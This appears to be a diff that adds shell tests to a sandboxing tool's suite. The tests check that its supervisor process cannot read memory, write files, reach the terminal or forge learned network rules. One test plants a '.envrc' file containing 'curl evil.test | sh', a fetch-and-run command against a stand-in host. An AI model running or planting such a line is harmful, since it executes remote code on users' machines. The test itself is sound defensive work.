@@ -46,6 +46,56 @@ cap as_user cat "/proc/$NBPID/environ"
 t_is "$RC" 0 "control: netbox's own process (not the supervisor) stays readable to its user"
 wait "$BG"
 
+# With --learn netbox holds the learned file and its directory open; the
+# supervisor holds no directory at all (openat(dir, "../..") would walk out
+# of its root), nor the learned file.
+as_user "$NB" --quiet --learn=learnfd.profile sleep 3 >/dev/null 2>&1 &
+BG=$!
+wait_for 10 sh -c '[ -n "$(pgrep -u "$0" -x netbox)" ]' "$NB_USER"
+sleep 0.5
+NBPID=$(netbox_pid)
+SUP=$(supervisor_pid)
+DIRS=0
+FILES=""
+for f in /proc/"$SUP"/fd/*; do
+	[ -d "$f" ] && DIRS=$((DIRS + 1))
+	FILES="$FILES $(readlink "$f")"
+done
+t_is "$DIRS" 0 "the supervisor holds no directory descriptor"
+t_unlike "$FILES" "learnfd" "... nor the learned profile's file"
+t_like "$(for f in /proc/"$NBPID"/fd/*; do readlink "$f"; done)" "learnfd" "control: netbox holds it"
+t_is "$([ "$(awk '{print $5}' "/proc/$SUP/stat")" != "$(awk '{print $5}' "/proc/$NBPID/stat")" ]; echo $?)" 0 \
+	"the supervisor is in a process group of its own, not netbox's"
+wait "$BG"
+rm -f "$NB_WORK/learnfd.profile"
+
+# On a terminal, stderr is the terminal opened read-write: reading it would
+# take what the user types, and ioctls and escape sequences reach the
+# shell's terminal.  The supervisor's is a pipe to netbox instead.
+PTYFD='import os, subprocess, sys, time
+m, s = os.openpty()
+p = subprocess.Popen(sys.argv[1:], stdin=s, stdout=s, stderr=s)
+time.sleep(1.5)
+kids = subprocess.run(["pgrep", "-P", str(p.pid)], capture_output=True, text=True).stdout.split()
+def mode(pid):
+    flags = [l for l in open("/proc/%s/fdinfo/2" % pid) if l.startswith("flags:")][0].split()[1]
+    return int(flags, 8) & 3
+print("netbox", mode(p.pid), os.readlink("/proc/%d/fd/2" % p.pid).startswith("/dev/pts/"),
+      "supervisor", " ".join(os.readlink("/proc/%s/fd/2" % k).split("[")[0] for k in kids))
+p.wait()'
+cap "$PY" -c "$PTYFD" setpriv --reuid="$NB_UID" --regid="$NB_GID" --init-groups \
+	env -i HOME="$NB_HOME" PATH=/usr/bin:/bin sh -c 'cd "$0" && exec "$@"' "$NB_WORK" "$NB" --quiet sleep 3
+t_is "$OUT" "netbox 2 True supervisor pipe:" "stderr on a terminal: netbox's the terminal (read-write), the supervisor's a pipe"
+
+# Many hosts in the exit summary: glibc's qsort() asks sysinfo() for 1 KiB
+# or more to sort, a call the filter must allow.
+cap nb "$PY" -c 'import socket
+for i in range(140):
+    try: socket.getaddrinfo("n%d.invalid" % i, 80)
+    except OSError: pass'
+t_is "$RC" 0 "140 denied names: the run ends with the program's status"
+t_like "$ERR" "network summary: 0 hosts allowed, 140 denied" "... and its summary"
+
 # --check says what the supervisor holds and what it can still do.
 cap nb --check --allow www.google.com true
 t_like "$OUT" "host side: a supervisor process" "--check: the host side has its own section"
@@ -73,11 +123,41 @@ if [ "${NETBOX_TEST_HOOKS:-0}" = 1 ] && [ "$SANITIZED" = 0 ]; then
 	t_is "$RC" 0 "control: the user's own sleep can be signalled without netbox"
 	cap as_user env NETBOX_TEST_HOOK="kill:$OTHER_USER_PID" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
 	t_like "$RC:$ERR" "^3:.*netbox-test-hook: kill ESRCH" "the supervisor cannot signal the user's processes outside (its own pid namespace)"
+	cap as_user env NETBOX_TEST_HOOK="vmread:$OTHER_USER_PID" "$NB" --quiet --allow 'www.google.com:*' sh -c 'sleep 0.3; exit 3'
+	t_like "$RC:$ERR" "^3:.*netbox-test-hook: vmread ESRCH" "... nor read their memory (every-port rules, which need process_vm_readv)"
 	cap as_user env NETBOX_TEST_HOOK="vmread:$OTHER_USER_PID" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
-	t_like "$RC:$ERR" "^3:.*netbox-test-hook: vmread ESRCH" "... nor read their memory"
+	t_like "$RC:$ERR" "^125:.*system call [0-9]+ \(process_vm_readv\)" "without every-port rules process_vm_readv is not in its filter at all"
 	kill "$OTHER" 2>/dev/null
 	cap as_user env NETBOX_TEST_HOOK="open:/etc/hosts" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
 	t_like "$RC:$ERR" "^3:.*netbox-test-hook: open succeeded" "control: the resolver's /etc/hosts stays readable (the hook works)"
+	# What it writes reaches the terminal as printable text only.
+	cap as_user env NETBOX_TEST_HOOK="stderr:" "$NB" --quiet true
+	t_is "$RC" 0 "a supervisor that writes control characters: the run goes on"
+	t_like "$ERR" "netbox-test-hook-text: \?\[31mred\?\[0m \?\?2J bell\? tab	em — end" "... netbox shows them as '?' (ESC, C1 CSI, BEL), tabs and UTF-8 as they are"
+	t_is "$(printf '%s' "$ERR" | tr -d '\n\t' | LC_ALL=C grep -c '[[:cntrl:]]')" 0 "... no control character reaches the terminal"
+	cap as_user env NETBOX_TEST_HOOK="openrw:/etc/hosts" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
+	t_like "$RC:$ERR" "^125:.*system call [0-9]+ \(openat\)" "opening for writing is not in its filter"
+	# kill(0, SIGKILL): the supervisor's process group is its own, not
+	# netbox's — netbox outlives it and sweeps what the program planted.
+	rm -f "$NB_WORK/.envrc" "$NB_WORK/.envrc.netbox-refused"
+	cap as_user env NETBOX_TEST_HOOK="killgroup:500" "$NB" --quiet sh -c 'echo "curl evil.test | sh" > .envrc; sleep 3'
+	t_like "$ERR" "netbox-test-hook: killgroup succeeded" "the supervisor sent SIGKILL to its process group"
+	t_is "$RC" 0 "... which reaches neither netbox nor the program (status 0)"
+	t_is "$(ls -A "$NB_WORK" | grep -c '^\.envrc$'):$(ls -A "$NB_WORK" | grep -c '^\.envrc\.netbox-refused$')" "0:1" \
+		"... but netbox, out of its reach, still moved the planted .envrc aside"
+	rm -f "$NB_WORK/.envrc.netbox-refused"
+	# The learned text is judged by netbox, whatever the supervisor says.
+	for lie in 'allow 127.0.0.1:7777' 'allow *:*' 'allow =*.evil.test:443' 'allow 10.0.0.0/8:22' \
+		'rw ~' 'allow =ok.test:443\0rw ~'; do
+		rm -f "$NB_WORK/lie.profile"
+		cap as_user env NETBOX_TEST_HOOK="learned:# x\n$lie\n" "$NB" --quiet --learn=lie.profile true
+		t_is "$RC:$(cat "$NB_WORK/lie.profile" 2>/dev/null | wc -c)" "0:0" "a supervisor that hands over '$lie' as learned: not written"
+		t_like "$ERR" "holds more than rules: not written" "... and netbox says so"
+	done
+	rm -f "$NB_WORK/lie.profile"
+	cap as_user env NETBOX_TEST_HOOK="learned:# x\nallow =ok.test:443,8443\nallow 93.184.216.34:80\nallow [2606:2800:220:1::1]:443\n" "$NB" --quiet --learn=lie.profile true
+	t_is "$RC:$(grep -c '^allow' "$NB_WORK/lie.profile" 2>/dev/null)" "0:3" "control: the forms report_learned() writes are written"
+	rm -f "$NB_WORK/lie.profile"
 else
 	t_skip "the supervisor's test hooks" "a build without -Dtest_hooks=true, or a sanitizer build"
 fi
